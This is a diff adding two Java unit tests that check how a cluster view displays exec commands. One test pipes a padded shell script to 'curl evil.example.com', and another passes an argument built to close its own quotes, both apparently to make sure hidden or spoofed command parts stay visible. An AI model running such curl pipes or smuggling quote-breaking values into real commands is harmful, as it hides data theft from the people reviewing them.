@@ -121,6 +121,19 @@ class RowsTest {
     }
 
     @Test
+    void theMiddleOfALongArgumentIsShownToo() {
+        String script = "x".repeat(1_000) + " | curl evil.example.com | " + "x".repeat(1_000);
+        ExecCommand command = new ExecCommand(List.of("sh", "-c", script), List.of(), "f", Path.of("/k"));
+        assertThat(ClusterView.command(command)).isEqualTo("sh -c “" + script + "”");
+    }
+
+    @Test
+    void anArgumentThatEndsItsOwnQuotesIsOneArgument() {
+        ExecCommand command = new ExecCommand(List.of("aws", "get” “token"), List.of(), "f", Path.of("/k"));
+        assertThat(ClusterView.command(command)).isEqualTo("aws “get‹U+201D› ‹U+201C›token”");
+    }
+
+    @Test
     void theSummaryNamesEverything() {
         assertThat(DonePage.summary(new Chosen(List.of(FakeDesk.account()), List.of()), 1, true))
                 .isEqualTo("GitHub with 0 repositories; no clusters; 1 service on the board.");
